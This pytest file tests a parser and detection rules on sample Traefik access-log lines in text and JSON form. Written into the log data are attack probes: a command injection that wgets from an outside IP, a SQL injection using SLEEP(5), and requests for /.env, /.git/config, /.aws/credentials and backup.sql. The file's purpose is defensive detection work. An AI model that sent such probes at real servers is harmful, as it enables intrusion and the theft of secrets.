"""Traefik: its access log as lines and as JSON, after its documentation.

https://doc.traefik.io/traefik/observability/access-logs/
"""

# ruff: noqa: E501 (a line of a log is a line)

import pytest
from support.web_lines import Parts, Told, fulfilled, parts, read, told

#: (line, what it tells, the rules that it fulfils by itself; none: harmless, or counted only)
LINES: tuple[tuple[str, Told, list[str]], ...] = (
    (
        '203.0.113.7 - - [01/Mar/2026:03:11:26 +0000] "GET / HTTP/1.1" 200 612 "-" "Mozilla/5.0" 17 "shop@docker" "http://10.0.0.5:80" 4ms',
        ("webserver", "203.0.113.7", "", "success", "http_request"),
        [],
    ),
    (
        '203.0.113.7 - - [01/Mar/2026:03:11:26 +0000] "GET /search?q=union+of+select+shops HTTP/1.1" 200 612 "-" "Mozilla/5.0" 17 "shop@docker" "http://10.0.0.5:80" 4ms',
        ("webserver", "203.0.113.7", "", "success", "http_request"),
        [],
    ),
    (
        '203.0.113.7 - - [01/Mar/2026:03:11:26 +0000] "GET /.env HTTP/1.1" 404 612 "-" "Mozilla/5.0" 17 "-" "-" 4ms',
        ("webserver", "203.0.113.7", "", "failure", "http_request"),
        ["Web probe for secrets"],
    ),
    (
        '203.0.113.7 - - [01/Mar/2026:03:11:26 +0000] "GET /.git/config HTTP/1.1" 200 265 "-" "Mozilla/5.0" 17 "shop@docker" "http://10.0.0.5:80" 4ms',
        ("webserver", "203.0.113.7", "", "success", "http_request"),
        ["Secrets handed out by the web server", "Web probe for secrets"],
    ),
    (
        '203.0.113.7 - - [01/Mar/2026:03:11:26 +0000] "GET /docs/.env.example HTTP/1.1" 200 612 "-" "Mozilla/5.0" 17 "shop@docker" "http://10.0.0.5:80" 4ms',
        ("webserver", "203.0.113.7", "", "success", "http_request"),
        [],
    ),
    (
        '203.0.113.7 - - [01/Mar/2026:03:11:26 +0000] "GET /x?a=1;wget%20http://203.0.113.66/x HTTP/1.1" 404 612 "-" "Mozilla/5.0" 17 "shop@docker" "http://10.0.0.5:80" 4ms',
        ("webserver", "203.0.113.7", "", "failure", "http_request"),
        ["Command injection probe"],
    ),
    (
        '203.0.113.7 - bob [01/Mar/2026:03:11:26 +0000] "POST /login HTTP/1.1" 401 612 "-" "Mozilla/5.0" 17 "shop@docker" "http://10.0.0.5:80" 4ms',
        ("webserver", "203.0.113.7", "bob", "failure", "http_request"),
        ["Basic authentication refused", "Web login refused"],
    ),
    (
        '203.0.113.7 - - [01/Mar/2026:03:11:26 +0000] "GET / HTTP/1.1" - - "-" "Mozilla/5.0" 17 "-" "-" 4ms',
        ("webserver", "203.0.113.7", "", "unknown", "http_request"),
        [],
    ),
    (
        '203.0.113.7 - x" y [01/Mar/2026:03:11:26 +0000] "GET /.env HTTP/1.1" 401 612 "-" "Mozilla/5.0" 17 "shop@docker" "http://10.0.0.5:80" 4ms',
        ("webserver", "203.0.113.7", 'x" y', "failure", "http_request"),
        ["Basic authentication refused", "Web probe for secrets"],
    ),
    (
        '203.0.113.7 - - [01/Mar/2026:03:11:26 +0000] "GET / HTTP/1.1" 200 612 "https://x.example/" q" "a" 200 1 "-" "b" 3 "r" "u" 1ms" 17 "shop@docker" "http://10.0.0.5:80" 4ms',
        ("webserver", "203.0.113.7", "", "success", "http_request"),
        [],
    ),
    (
        '198.51.100.9, 203.0.113.7 - - [01/Mar/2026:03:11:26 +0000] "GET / HTTP/1.1" 200 612 "-" "Mozilla/5.0" 17 "shop@docker" "http://10.0.0.5:80" 4ms',
        ("webserver", "203.0.113.7", "", "success", "http_request"),
        [],
    ),
    (
        '2001:db8::7 - - [01/Mar/2026:03:11:26 +0000] "GET / HTTP/1.1" 200 612 "-" "Mozilla/5.0" 17 "shop@docker" "http://10.0.0.5:80" 4ms',
        ("webserver", "2001:db8::7", "", "success", "http_request"),
        [],
    ),
    (
        '203.0.113.7 - - [01/Mar/2026:03:11:26 +0000] "GET / HTTP/1.1" 502 612 "-" "Mozilla/5.0" 17 "shop@docker" "http://10.0.0.5:80" 4ms',
        ("webserver", "203.0.113.7", "", "failure", "http_request"),
        [],
    ),
    (
        '203.0.113.7 - - [01/Mar/2026:03:11:26 +0000] "GET / HTTP/1.1" 200 612 "-" "Mozilla/5.0 (compatible; Nuclei - Open-source project)" 17 "shop@docker" "http://10.0.0.5:80" 4ms',
        ("webserver", "203.0.113.7", "", "success", "http_request"),
        ["Web scanner by name"],
    ),
    (
        '192.0.2.20 - - [01/Mar/2026:03:11:26 +0000] "GET /ping HTTP/1.1" 200 612 "-" "Blackbox Exporter/0.24.0" 17 "shop@docker" "http://10.0.0.5:80" 4ms',
        ("webserver", "192.0.2.20", "", "success", "http_request"),
        [],
    ),
    (
        '{"ClientAddr":"203.0.113.7:40022","ClientHost":"203.0.113.7","ClientPort":"40022","ClientUsername":"-","DownstreamContentSize":612,"DownstreamStatus":200,"Duration":1234567,"OriginStatus":200,"RequestAddr":"shop.example","RequestCount":17,"RequestHost":"shop.example","RequestMethod":"GET","RequestPath":"/","RequestPort":"-","RequestProtocol":"HTTP/2.0","RequestScheme":"https","RouterName":"shop@docker","ServiceAddr":"10.0.0.5:80","ServiceName":"shop@docker","ServiceURL":"http://10.0.0.5:80","StartUTC":"2026-03-01T03:11:26.123456789Z","entryPointName":"websecure","level":"info","msg":"","time":"2026-03-01T03:11:26Z","request_User-Agent":"Mozilla/5.0"}',
        ("webserver", "203.0.113.7", "", "success", "http_request"),
        [],
    ),
    (
        '{"ClientAddr":"203.0.113.7:40022","ClientHost":"203.0.113.7","ClientPort":"40022","ClientUsername":"-","DownstreamContentSize":612,"DownstreamStatus":404,"Duration":1234567,"OriginStatus":404,"RequestAddr":"shop.example","RequestCount":17,"RequestHost":"shop.example","RequestMethod":"GET","RequestPath":"/.aws/credentials","RequestPort":"-","RequestProtocol":"HTTP/2.0","RequestScheme":"https","RouterName":"shop@docker","ServiceAddr":"10.0.0.5:80","ServiceName":"shop@docker","ServiceURL":"http://10.0.0.5:80","StartUTC":"2026-03-01T03:11:26.123456789Z","entryPointName":"websecure","level":"info","msg":"","time":"2026-03-01T03:11:26Z","request_User-Agent":"Mozilla/5.0"}',
        ("webserver", "203.0.113.7", "", "failure", "http_request"),
        ["Web probe for secrets"],
    ),
    (
        '{"ClientAddr":"203.0.113.7:40022","ClientHost":"203.0.113.7","ClientPort":"40022","ClientUsername":"-","DownstreamContentSize":612,"DownstreamStatus":200,"Duration":1234567,"OriginStatus":200,"RequestAddr":"shop.example","RequestCount":17,"RequestHost":"shop.example","RequestMethod":"GET","RequestPath":"/backup.sql","RequestPort":"-","RequestProtocol":"HTTP/2.0","RequestScheme":"https","RouterName":"shop@docker","ServiceAddr":"10.0.0.5:80","ServiceName":"shop@docker","ServiceURL":"http://10.0.0.5:80","StartUTC":"2026-03-01T03:11:26.123456789Z","entryPointName":"websecure","level":"info","msg":"","time":"2026-03-01T03:11:26Z","request_User-Agent":"Mozilla/5.0"}',
        ("webserver", "203.0.113.7", "", "success", "http_request"),
        ["Secrets handed out by the web server", "Web probe for secrets"],
    ),
    (
        '{"ClientAddr":"203.0.113.7:40022","ClientHost":"203.0.113.7","ClientPort":"40022","ClientUsername":"-","DownstreamContentSize":612,"DownstreamStatus":200,"Duration":1234567,"OriginStatus":200,"RequestAddr":"shop.example","RequestCount":17,"RequestHost":"shop.example","RequestMethod":"GET","RequestPath":"/p?id=1%20AND%20SLEEP(5)","RequestPort":"-","RequestProtocol":"HTTP/2.0","RequestScheme":"https","RouterName":"shop@docker","ServiceAddr":"10.0.0.5:80","ServiceName":"shop@docker","ServiceURL":"http://10.0.0.5:80","StartUTC":"2026-03-01T03:11:26.123456789Z","entryPointName":"websecure","level":"info","msg":"","time":"2026-03-01T03:11:26Z","request_User-Agent":"Mozilla/5.0"}',
        ("webserver", "203.0.113.7", "", "success", "http_request"),
        ["SQL injection probe"],
    ),
    (
        '{"ClientAddr":"203.0.113.7:40022","ClientHost":"203.0.113.7","ClientPort":"40022","ClientUsername":"-","DownstreamContentSize":612,"DownstreamStatus":401,"Duration":1234567,"OriginStatus":401,"RequestAddr":"shop.example","RequestCount":17,"RequestHost":"shop.example","RequestMethod":"POST","RequestPath":"/api/login","RequestPort":"-","RequestProtocol":"HTTP/2.0","RequestScheme":"https","RouterName":"shop@docker","ServiceAddr":"10.0.0.5:80","ServiceName":"shop@docker","ServiceURL":"http://10.0.0.5:80","StartUTC":"2026-03-01T03:11:26.123456789Z","entryPointName":"websecure","level":"info","msg":"","time":"2026-03-01T03:11:26Z","request_User-Agent":"Mozilla/5.0"}',
        ("webserver", "203.0.113.7", "", "failure", "http_request"),
        ["Web login refused"],
    ),
    (
        '{"ClientAddr":"203.0.113.7:40022","ClientHost":"203.0.113.7","ClientPort":"40022","ClientUsername":"root","DownstreamContentSize":612,"DownstreamStatus":401,"Duration":1234567,"OriginStatus":401,"RequestAddr":"shop.example","RequestCount":17,"RequestHost":"shop.example","RequestMethod":"GET","RequestPath":"/admin","RequestPort":"-","RequestProtocol":"HTTP/2.0","RequestScheme":"https","RouterName":"shop@docker","ServiceAddr":"10.0.0.5:80","ServiceName":"shop@docker","ServiceURL":"http://10.0.0.5:80","StartUTC":"2026-03-01T03:11:26.123456789Z","entryPointName":"websecure","level":"info","msg":"","time":"2026-03-01T03:11:26Z","request_User-Agent":"Mozilla/5.0"}',
        ("webserver", "203.0.113.7", "root", "failure", "http_request"),
        ["Basic authentication refused"],
    ),
    (
        '{"ClientAddr":"10.0.0.2:5000","ClientHost":"198.51.100.9","ClientPort":"40022","ClientUsername":"-","DownstreamContentSize":612,"DownstreamStatus":200,"Duration":1234567,"OriginStatus":200,"RequestAddr":"shop.example","RequestCount":17,"RequestHost":"shop.example","RequestMethod":"GET","RequestPath":"/","RequestPort":"-","RequestProtocol":"HTTP/2.0","RequestScheme":"https","RouterName":"shop@docker","ServiceAddr":"10.0.0.5:80","ServiceName":"shop@docker","ServiceURL":"http://10.0.0.5:80","StartUTC":"2026-03-01T03:11:26.123456789Z","entryPointName":"websecure","level":"info","msg":"","time":"2026-03-01T03:11:26Z","request_User-Agent":"Mozilla/5.0"}',
        ("webserver", "10.0.0.2", "", "success", "http_request"),
        [],
    ),
    (
        '{"ClientAddr":"[2001:db8::7]:40022","ClientHost":"2001:db8::7","ClientPort":"40022","ClientUsername":"-","DownstreamContentSize":612,"DownstreamStatus":200,"Duration":1234567,"OriginStatus":200,"RequestAddr":"shop.example","RequestCount":17,"RequestHost":"shop.example","RequestMethod":"GET","RequestPath":"/","RequestPort":"-","RequestProtocol":"HTTP/2.0","RequestScheme":"https","RouterName":"shop@docker","ServiceAddr":"10.0.0.5:80","ServiceName":"shop@docker","ServiceURL":"http://10.0.0.5:80","StartUTC":"2026-03-01T03:11:26.123456789Z","entryPointName":"websecure","level":"info","msg":"","time":"2026-03-01T03:11:26Z","request_User-Agent":"Mozilla/5.0"}',
        ("webserver", "2001:db8::7", "", "success", "http_request"),
        [],
    ),
    (
        '{"ClientAddr":"203.0.113.7:40022","ClientHost":"203.0.113.7","ClientPort":"40022","ClientUsername":"-","DownstreamContentSize":612,"DownstreamStatus":503,"Duration":1234567,"OriginStatus":503,"RequestAddr":"shop.example","RequestCount":17,"RequestHost":"shop.example","RequestMethod":"GET","RequestPath":"/","RequestPort":"-","RequestProtocol":"HTTP/2.0","RequestScheme":"https","RouterName":"shop@docker","ServiceAddr":"10.0.0.5:80","ServiceName":"shop@docker","ServiceURL":"http://10.0.0.5:80","StartUTC":"2026-03-01T03:11:26.123456789Z","entryPointName":"websecure","level":"info","msg":"","time":"2026-03-01T03:11:26Z","request_User-Agent":"Mozilla/5.0"}',
        ("webserver", "203.0.113.7", "", "failure", "http_request"),
        [],
    ),
    (
        '{"ClientAddr":"203.0.113.7:40022","ClientHost":"203.0.113.7","ClientPort":"40022","ClientUsername":"-","DownstreamContentSize":612,"DownstreamStatus":200,"Duration":1234567,"OriginStatus":200,"RequestAddr":"shop.example","RequestCount":17,"RequestHost":"shop.example","RequestMethod":"GET","RequestPath":"/","RequestPort":"-","RequestProtocol":"HTTP/2.0","RequestScheme":"https","RouterName":"shop@docker","ServiceAddr":"10.0.0.5:80","ServiceName":"shop@docker","ServiceURL":"http://10.0.0.5:80","StartUTC":"2026-03-01T03:11:26.123456789Z","entryPointName":"websecure","level":"info","msg":"","time":"2026-03-01T03:11:26Z","request_User-Agent":"Hello, World"}',
        ("webserver", "203.0.113.7", "", "success", "http_request"),
        ["Web client of a botnet"],
    ),
    (
        '{"ClientAddr":"203.0.113.7:40022","ClientHost":"203.0.113.7","ClientPort":"40022","ClientUsername":"-","DownstreamContentSize":612,"DownstreamStatus":200,"Duration":1234567,"OriginStatus":200,"RequestAddr":"shop.example","RequestCount":17,"RequestHost":"shop.example","RequestMethod":"GET","RequestPath":"/","RequestPort":"-","RequestProtocol":"HTTP/2.0","RequestScheme":"https","RouterName":"shop@docker","ServiceAddr":"10.0.0.5:80","ServiceName":"shop@docker","ServiceURL":"http://10.0.0.5:80","StartUTC":"2026-03-01T03:11:26.123456789Z","entryPointName":"websecure","level":"info","msg":"","time":"2026-03-01T03:11:26Z","request_User-Agent":"Mozilla/5.0","request_X-Forwarded-For":"127.0.0.1"}',
        ("webserver", "203.0.113.7", "", "success", "http_request"),
        [],
    ),
    (
        '{"level":"error","entryPointName":"web","time":"2026-03-01T03:11:26Z","error":"dial tcp 10.0.0.5:80: connect: connection refused","message":"502 Bad Gateway"}',
        ("webserver_error/traefik/traefik", "", "", "failure", "upstream_failure"),
        ["Web server's backend does not answer"],
    ),
    (
        'Mar  1 03:11:26 web1 traefik[812]: 203.0.113.7 - - [01/Mar/2026:03:11:26 +0000] "GET /.env HTTP/1.1" 404 612 "-" "Mozilla/5.0" 17 "shop@docker" "http://10.0.0.5:80" 4ms',
        ("webserver", "203.0.113.7", "", "failure", "http_request"),
        ["Web probe for secrets"],
    ),
)


@pytest.mark.parametrize(("line", "tells", "rules"), LINES)
def test_lines(line: str, tells: Told, rules: list[str]) -> None:
    """Each line tells who, what and how it ended, and fulfils just these rules."""
    parsed = read(line)
    assert told(parsed) == tells
    assert fulfilled(line, parsed) == rules


#: (line, what it tells of the request)
REQUESTS: tuple[tuple[str, Parts], ...] = (
    (
        '203.0.113.7 - - [01/Mar/2026:03:11:26 +0000] "GET / HTTP/1.1" 200 612 "-" "Mozilla/5.0" 17 "shop@docker" "http://10.0.0.5:80" 4ms',
        ("GET", "/", 200, 612, "Mozilla/5.0", 0.004, None),
    ),
    (
        '{"ClientAddr":"203.0.113.7:40022","ClientHost":"203.0.113.7","ClientPort":"40022","ClientUsername":"-","DownstreamContentSize":612,"DownstreamStatus":200,"Duration":1234567,"OriginStatus":200,"RequestAddr":"shop.example","RequestCount":17,"RequestHost":"shop.example","RequestMethod":"GET","RequestPath":"/","RequestPort":"-","RequestProtocol":"HTTP/2.0","RequestScheme":"https","RouterName":"shop@docker","ServiceAddr":"10.0.0.5:80","ServiceName":"shop@docker","ServiceURL":"http://10.0.0.5:80","StartUTC":"2026-03-01T03:11:26.123456789Z","entryPointName":"websecure","level":"info","msg":"","time":"2026-03-01T03:11:26Z","request_User-Agent":"Mozilla/5.0"}',
        ("GET", "/", 200, 612, "Mozilla/5.0", 0.001234567, "shop.example"),
    ),
    (
        '203.0.113.7 - - [01/Mar/2026:03:11:26 +0000] "GET / HTTP/1.1" 502 612 "-" "Mozilla/5.0" 17 "shop@docker" "http://10.0.0.5:80" 4ms',
        ("GET", "/", 502, 612, "Mozilla/5.0", 0.004, None),
    ),
)


@pytest.mark.parametrize(("line", "tells"), REQUESTS)
def test_requests(line: str, tells: Parts) -> None:
    """Method, path, status, size, user agent, duration and host are found where the line has them."""
    assert parts(read(line)) == tells
